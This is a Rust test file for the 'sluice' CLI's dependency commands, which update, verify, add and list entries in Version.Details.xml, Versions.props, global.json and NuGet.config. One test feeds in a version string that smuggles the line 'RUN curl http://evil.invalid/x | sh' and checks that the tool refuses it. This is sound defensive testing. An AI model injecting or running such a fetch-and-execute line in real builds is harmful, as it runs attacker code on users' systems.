//! The darc-compatible layout: `eng/Version.Details.xml` and the files that follow it.

use std::fs;
use std::path::PathBuf;

use super::{GLOBAL, PROPS, VDX, read, repo, sluice, update, update_with};

#[test]
fn update_moves_dependencies_and_every_file_that_follows() {
    let dir = repo();
    let out = update(
        dir.path(),
        &["contoso.runtime=1.1.0", "Contoso.Sdk=2.1.0", "Other=9"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("contoso.runtime: 1.0.0 -> 1.1.0"),
        "{stdout}"
    );
    assert!(stdout.contains("Contoso.Sdk: 2.0.0 -> 2.1.0"), "{stdout}");
    let want_vdx = VDX
        .replace(
            "\"Contoso.Runtime\" Version=\"1.0.0\"",
            "\"contoso.runtime\" Version=\"1.1.0\"",
        )
        .replace(
            "\"Contoso.Sdk\" Version=\"2.0.0\"",
            "\"Contoso.Sdk\" Version=\"2.1.0\"",
        )
        .replace("aaaaaaaa", "bbbbbbbb");
    assert_eq!(read(dir.path(), "eng/Version.Details.xml"), want_vdx);
    assert_eq!(
        read(dir.path(), "eng/Versions.props"),
        PROPS
            .replace(
                "ContosoRuntimePackageVersion",
                "contosoruntimePackageVersion"
            )
            .replace("1.0.0", "1.1.0")
    );
    assert_eq!(
        read(dir.path(), "global.json"),
        GLOBAL.replace("2.0.0", "2.1.0")
    );
    let verify = sluice(&["deps", "verify", "--dir", &dir.path().to_string_lossy()]);
    assert!(
        verify.status.success(),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
}

#[test]
fn update_without_a_match_changes_nothing() {
    let dir = repo();
    let out = update(dir.path(), &["Unrelated=1.0"]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("nothing changed"));
    assert_eq!(read(dir.path(), "eng/Version.Details.xml"), VDX);
    assert_eq!(read(dir.path(), "global.json"), GLOBAL);
}

#[test]
fn malformed_file_fails_with_a_position_and_writes_nothing() {
    let dir = repo();
    fs::write(
        dir.path().join("global.json"),
        "{\n  \"msbuild-sdks\": {\n    \"Contoso.Sdk\" \"2.0.0\"\n",
    )
    .expect("write");
    let out = update(dir.path(), &["Contoso.Runtime=1.1.0", "Contoso.Sdk=2.1.0"]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("global.json:3:19: expected ':'"),
        "{stderr}"
    );
    assert_eq!(read(dir.path(), "eng/Version.Details.xml"), VDX);
    assert_eq!(read(dir.path(), "eng/Versions.props"), PROPS);
    let leftovers: Vec<PathBuf> = fs::read_dir(dir.path().join("eng"))
        .expect("list")
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.to_string_lossy().ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn a_version_that_would_inject_a_line_is_refused_and_writes_nothing() {
    let dir = repo();
    let out = update(
        dir.path(),
        &["Contoso.Runtime=9.0.2\nRUN curl http://evil.invalid/x | sh\n#"],
    );
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(
            "--asset Contoso.Runtime: version \"9.0.2\\nRUN curl http://evil.invalid/x | s…\""
        ),
        "{stderr}"
    );
    assert!(
        !stderr.contains("RUN curl http://evil.invalid/x | sh\n"),
        "{stderr}"
    );
    assert_eq!(read(dir.path(), "eng/Version.Details.xml"), VDX);
    assert_eq!(read(dir.path(), "eng/Versions.props"), PROPS);
    assert_eq!(read(dir.path(), "global.json"), GLOBAL);
}

#[test]
fn verify_reports_findings_with_positions() {
    let dir = repo();
    fs::write(
        dir.path().join("global.json"),
        GLOBAL.replace("2.0.0", "1.9.0"),
    )
    .expect("write");
    let out = sluice(&["deps", "verify", "--dir", &dir.path().to_string_lossy()]);
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("global.json:3:20: msbuild-sdks.Contoso.Sdk is 1.9.0"),
        "{stdout}"
    );
}

#[test]
fn verify_reports_a_deleted_versions_props_property() {
    let dir = repo();
    fs::write(
        dir.path().join("eng/Versions.props"),
        "<Project>\n  <PropertyGroup>\n  </PropertyGroup>\n</Project>\n",
    )
    .expect("write");
    let out = sluice(&["deps", "verify", "--dir", &dir.path().to_string_lossy()]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains("eng/Version.Details.xml:4:5: Contoso.Runtime has no ContosoRuntimePackageVersion property in eng/Versions.props"),
        "{stdout}"
    );
    assert!(
        !stdout.contains("Contoso.Sdk"),
        "global.json carries the SDK: {stdout}"
    );
}

#[test]
fn update_says_a_pinned_asset_is_pinned() {
    let dir = repo();
    fs::write(
        dir.path().join("eng/Version.Details.xml"),
        VDX.replace(
            "Name=\"Contoso.Runtime\" Version=\"1.0.0\"",
            "Name=\"Contoso.Runtime\" Version=\"1.0.0\" Pinned=\"true\"",
        ),
    )
    .expect("write");
    let out = update(dir.path(), &["Contoso.Runtime=1.1.0", "Unrelated=1"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    assert!(
        stdout.contains("Contoso.Runtime: pinned at 1.0.0; not updated")
            && stdout.contains("Unrelated: no dependency matches")
            && stdout.contains("no dependency moves; nothing changed"),
        "{stdout}"
    );
    assert!(
        !stdout.contains("no dependency matches the build"),
        "{stdout}"
    );
}

#[test]
fn add_refuses_an_unknown_coherent_parent() {
    let dir = repo();
    let d = dir.path().to_string_lossy().into_owned();
    let add = |parent: &str| {
        sluice(&[
            "deps",
            "add",
            "--dir",
            &d,
            "--name",
            "Contoso.Child",
            "--version",
            "1.0.0",
            "--repo",
            "https://github.com/contoso/runtime",
            "--commit",
            "cccccccc",
            "--coherent-parent",
            parent,
        ])
    };
    let out = add("Contoso.Nothing");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("eng/Version.Details.xml: coherent parent 'Contoso.Nothing' of Contoso.Child is not a dependency in the manifest (declared: Contoso.Runtime, Contoso.Sdk)"),
        "{stderr}"
    );
    assert_eq!(
        read(dir.path(), "eng/Version.Details.xml"),
        VDX,
        "nothing written"
    );
    let out = add("contoso.runtime");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn list_and_add() {
    let dir = repo();
    let d = dir.path().to_string_lossy().into_owned();
    let out = sluice(&[
        "deps",
        "add",
        "--dir",
        &d,
        "--name",
        "Contoso.Tools",
        "--version",
        "3.0.0",
        "--repo",
        "https://github.com/contoso/tools",
        "--commit",
        "cccccccc",
        "--toolset",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = sluice(&["deps", "list", "--dir", &d, "--format", "json"]);
    assert!(out.status.success());
    let deps: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let names: Vec<&str> = deps
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|d| d["name"].as_str())
        .collect();
    assert_eq!(names, ["Contoso.Runtime", "Contoso.Sdk", "Contoso.Tools"]);
    assert!(
        read(dir.path(), "eng/Versions.props")
            .contains("<ContosoToolsPackageVersion>3.0.0</ContosoToolsPackageVersion>")
    );
}

#[test]
fn help_teaches_with_examples() {
    for sub in ["update", "list", "verify", "add"] {
        let out = sluice(&["deps", sub, "--help"]);
        assert!(out.status.success());
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("Examples:"),
            "{sub}"
        );
    }
}

#[test]
fn sdk_bump_and_managed_feeds_follow_the_build() {
    let dir = repo();
    let global = "{\n  \"sdk\": {\n    \"version\": \"9.0.100\"\n  },\n  \"tools\": {\n    \"dotnet\": \"9.0.100\"\n  },\n  \"msbuild-sdks\": {\n    \"Contoso.Sdk\": \"2.0.0\"\n  }\n}\n";
    fs::write(dir.path().join("global.json"), global).expect("write");
    let nuget = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n  <packageSources>\n    <clear />\n    <add key=\"nuget\" value=\"https://api.nuget.org/v3/index.json\" />\n  </packageSources>\n</configuration>\n";
    fs::write(dir.path().join("NuGet.config"), nuget).expect("write");
    let source = dir.path().join("source-global.json");
    fs::write(&source, "{ \"tools\": { \"dotnet\": \"9.0.200\" } }").expect("write");
    let feed = "https://pkgs.dev.azure.com/dnceng/_packaging/darc-int-contoso-runtime-bbbbbbbb/nuget/v3/index.json";
    let out = update_with(
        dir.path(),
        &[
            "--asset",
            "Contoso.Sdk=2.1.0",
            "--asset-location",
            &format!("Contoso.Sdk={feed}"),
            "--source-global-json",
            &source.to_string_lossy(),
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        read(dir.path(), "global.json"),
        global
            .replace("9.0.100", "9.0.200")
            .replace("2.0.0", "2.1.0")
    );
    let nuget_after = read(dir.path(), "NuGet.config");
    assert!(
        nuget_after.contains("<add key=\"darc-int-contoso-runtime-bbbbbbb\" value=\"true\" />"),
        "{nuget_after}"
    );
    assert!(nuget_after.starts_with("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n  <packageSources>\n    <clear />\n"), "{nuget_after}");
}
